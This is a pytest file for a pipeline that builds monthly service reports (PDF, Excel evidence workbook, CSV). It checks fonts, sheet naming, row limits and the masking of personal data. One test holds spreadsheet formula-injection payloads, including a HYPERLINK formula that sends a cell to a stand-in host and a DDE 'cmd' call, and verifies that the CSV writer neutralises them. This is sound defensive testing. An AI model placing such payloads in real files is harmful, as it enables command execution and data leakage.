"""The three files: one small PDF render (WeasyPrint is slow), and the evidence workbook."""

from __future__ import annotations

import codecs

import re
import zlib

import pytest
from python_calamine import CalamineWorkbook

from pipelines import warehouse
from pipelines.report import evidence_xlsx, render_report
from pipelines.report.context import labels
from tests.report.conftest import MONTH


def pdf_objects(raw: bytes) -> bytes:
    """The PDF with its compressed streams inflated (fonts are named inside object streams)."""
    parts = [raw]
    for match in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", raw, re.S):
        try:
            parts.append(zlib.decompress(match.group(1)))
        except zlib.error:
            continue
    return b"\n".join(parts)


def test_report_files_for_a_sparse_month(sparse_wh, tmp_path):
    with sparse_wh.connect() as conn:
        paths = render_report(conn, sparse_wh.runs[MONTH], MONTH, tmp_path / MONTH)
    assert [p.name for p in paths] == ["report.html", "report.pdf", "evidence.xlsx", "evidence.csv"]
    assert all(p.stat().st_size > 0 for p in paths)
    assert not list((tmp_path / MONTH).glob(".*partial*"))
    raw = paths[1].read_bytes()
    assert raw.startswith(b"%PDF-")
    objects = pdf_objects(raw)
    fonts = set(re.findall(rb"/BaseFont\s*/([A-Za-z0-9+\-]+)", objects))
    assert fonts and all(b"Noto-Sans-CJK-SC" in f for f in fonts), fonts  # nothing fell back to DejaVu
    assert b"/MediaBox [0 0 595" in objects or b"/MediaBox[0 0 595" in objects  # A4: 595 x 842 pt
    assert re.search(rb"/Count (\d+)", objects)


def sheet_rows(path, name) -> list[list]:
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_name(name).to_python()


def test_evidence_workbook_lists_every_miss(demo_wh, tmp_path):
    path = tmp_path / "evidence.xlsx"
    with demo_wh.connect() as conn:
        run_id = demo_wh.runs[MONTH]
        evidence_xlsx.write_evidence(conn, run_id, MONTH, path)
        families = evidence_xlsx.missed_families(conn, run_id)
        expected = conn.execute(
            """select count(*) from evidence e where e.run_id = ? and e.metric = 'complaint.handling_rate'
               and outcome in ('miss', 'pending')""", [run_id]).fetchall()[0][0]
        quarantined = conn.execute("select count(*) from quarantine").fetchall()[0][0]
    book = CalamineWorkbook.from_path(str(path))
    names = book.sheet_names
    assert names[0] == "说明" and names[-1] == "隔离记录"
    # the families, the records to check (urgent repairs not marked urgent: the demo has some), the quarantine
    assert len(names) == len(families) + 3 and names[-2] == "需核对"
    assert "complaint.handling_rate" in families
    rows = sheet_rows(path, "投诉处理率")
    assert rows[1][:5] == ["项目编号", "项目名称", "指标", "周期", "结果"]
    data = rows[2:]
    assert len(data) == expected > 0
    assert {r[4] for r in data} <= {"未达标", "待定"}
    assert all(r[6] and int(r[7]) > 0 for r in data)  # source file and line on every row
    assert len(sheet_rows(path, "隔离记录")) - 2 == quarantined


def quarantine_seen_by(conn, run_id: str, file_hash: str = "h") -> None:
    """The run saw the file the quarantined rows come from (run_files), so its sheet lists them."""
    conn.execute("insert into run_files (run_id, dataset, source_file, file_hash, status) values (?, 'x', 'x', ?, 'loaded')",
                 [run_id, file_hash])


def test_quarantine_sheet_hides_personal_values(tmp_path):
    conn = warehouse.connect(":memory:")
    rows = [("crm_customers", "crm/a.csv", 5, "h", "r", "phone", "13800138000", "电话重复"),
            ("crm_customers", "crm/a.csv", 6, "h", "r", "name", "王小明", "姓名过长"),
            ("calls", "calls/a.csv", 7, "h", "r", "started_at", "2026-13-45 09:30", "无法识别为时间")]
    conn.executemany("insert into quarantine values (?, ?, ?, ?, ?, ?, ?, ?, '{}')", rows)
    quarantine_seen_by(conn, "no-run")
    path = evidence_xlsx.write_evidence(conn, "no-run", MONTH, tmp_path / "evidence.xlsx")
    cells = [[str(c) for c in r] for r in sheet_rows(path, "隔离记录")[2:]]
    assert [r[2] for r in cells] == ["7.0", "5.0", "6.0"]  # by dataset, file, line (numbers read back as floats)
    text = " ".join(c for r in cells for c in r)
    assert "13800138000" not in text and "王小明" not in text
    assert "2026-13-45 09:30" in text  # not personal: shown, so the user sees what broke
    assert text.count(labels("zh")["xlsx"]["masked"]) == 2


def test_sheet_stops_at_the_row_limit_and_says_so(demo_wh, tmp_path, monkeypatch):
    monkeypatch.setattr(evidence_xlsx, "SHEET_ROWS", 10)
    path = tmp_path / "evidence.xlsx"
    with demo_wh.connect() as conn:
        evidence_xlsx.write_evidence(conn, demo_wh.runs[MONTH], MONTH, path)
    rows = sheet_rows(path, "隔离记录")
    assert len(rows) == 12
    assert "仅列出前 10 行" in rows[0][0] and "evidence.csv" in rows[0][0]


def test_evidence_csv_holds_every_evidence_row_of_the_run(demo_wh, tmp_path):
    path = tmp_path / "evidence.csv"
    with demo_wh.connect() as conn:
        evidence_xlsx.write_evidence_csv(conn, demo_wh.runs[MONTH], path)
        expected = conn.execute("select count(*) from evidence where run_id = ?", [demo_wh.runs[MONTH]]).fetchall()[0][0]
    data = path.read_bytes()
    assert data.startswith(codecs.BOM_UTF8)  # so Excel reads the Chinese right
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("site_id,metric,period,outcome")
    assert expected > 0 and len(lines) == expected + 1


@pytest.mark.parametrize("name", ["a/b:c*d?e[f]", "x" * 40])
def test_sheet_names_follow_excel_rules(name):
    taken: set[str] = set()
    first, second = evidence_xlsx.sheet_name(name, taken), evidence_xlsx.sheet_name(name, taken)
    assert len(first) <= 31 and len(second) <= 31 and first != second
    assert not re.search(r"[\[\]:*?/\\]", first)


def test_a_big_month_prints_the_pdf_in_a_second_process(sparse_wh, tmp_path, monkeypatch):
    import pipelines.report as report

    monkeypatch.setattr(report, "BIG_EVIDENCE", -1)  # every month counts as big
    with sparse_wh.connect() as conn:
        paths = render_report(conn, sparse_wh.runs[MONTH], MONTH, tmp_path / MONTH)
    assert paths[1].name == "report.pdf" and paths[1].read_bytes().startswith(b"%PDF-")
    assert not list((tmp_path / MONTH).glob(".*partial*"))


def test_pdf_text_shows_the_same_numbers_as_metrics_json(demo_wh, tmp_path):
    from pypdf import PdfReader

    with demo_wh.connect() as conn:
        paths = render_report(conn, demo_wh.runs[MONTH], MONTH, tmp_path / MONTH)
        rows = conn.execute(
            """select metric, value, numerator, denominator from metrics
               where run_id = ? and site_id is null and period = ? and metric in
               ('complaint.handling_rate', 'repair.callback_rate', 'call.answer_3_rings_rate', 'complaint.count')""",
            [demo_wh.runs[MONTH], MONTH],
        ).fetchall()
    first_page = PdfReader(paths[1]).pages[0].extract_text()
    assert len(rows) == 4
    for metric, value, numerator, denominator in rows:
        if metric == "complaint.count":
            assert f"{int(value)}" in first_page
        else:  # the headline shows a rate to one decimal, and its parts
            assert f"{value * 100:.1f}%" in first_page, metric
            assert f"{int(numerator)}/{int(denominator)}" in first_page, metric


def test_evidence_csv_neutralises_cells_a_spreadsheet_would_run(tmp_path):
    import csv

    conn = warehouse.connect(":memory:")
    hostile = ['=HYPERLINK("http://x/"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]
    for i, text in enumerate(hostile):
        conn.execute("insert into evidence values ('r', '2026-10', 'complaint.count', 'S1', '2026-10', 'miss', "
                     "'complaints', ?, 'complaints/a.csv', ?, null, ?)", [text, i + 2, text])
    conn.execute("insert into evidence values ('r', '2026-10', 'complaint.count', 'S1', '2026-10', 'miss', "
                 "'complaints', 'C1', 'complaints/a.csv', 9, null, '噪音 = 扰民')")
    path = evidence_xlsx.write_evidence_csv(conn, "r", tmp_path / "evidence.csv")
    rows = list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))
    by_line = {int(r["source_line"]): r for r in rows}
    for i, text in enumerate(hostile):
        assert by_line[i + 2]["detail"] == "'" + text and by_line[i + 2]["record_id"] == "'" + text
    assert by_line[9]["detail"] == "噪音 = 扰民" and by_line[9]["record_id"] == "C1"  # ordinary text as it was


def test_quarantine_masks_personal_values_by_what_they_are_in_any_column(tmp_path):
    conn = warehouse.connect(":memory:")
    rows = [
        # a row with a missing cell: the phone shifted into `direction`, name and address into `severity`
        ("calls", "calls/a.csv", 2, "direction", "13912345678", "呼叫方向不在允许范围", '{"phone": "呼入"}'),
        ("complaints", "c.csv", 3, "severity", "陈美丽 139 1111 2222 家住12栋1801", "不在允许范围",
         '{"complainant": "陈美丽"}'),
        ("complaints", "c.csv", 4, "severity", "陈美丽", "不在允许范围", '{"complainant": "陈美丽"}'),
        ("crm_customers", "crm.csv", 5, "occupation", "律师", "过长", "{}"),   # a CRM profile field
        ("crm_customers", "crm.csv", 6, "total_price", "800万", "不是数字", "{}"),
        ("calls", "calls/a.csv", 7, "rings", "很多", "不是整数", "{}"),       # not personal: shown
    ]
    conn.executemany("insert into quarantine values (?, ?, ?, 'h', 'r', ?, ?, ?, ?)", rows)
    quarantine_seen_by(conn, "no-run")
    path = evidence_xlsx.write_evidence(conn, "no-run", MONTH, tmp_path / "evidence.xlsx")
    values = {int(float(r[2])): r[4] for r in sheet_rows(path, "隔离记录")[2:]}
    masked = labels("zh")["xlsx"]["masked"]
    assert [values[line] for line in (2, 3, 4, 5, 6)] == [masked] * 5
    assert values[7] == "很多"
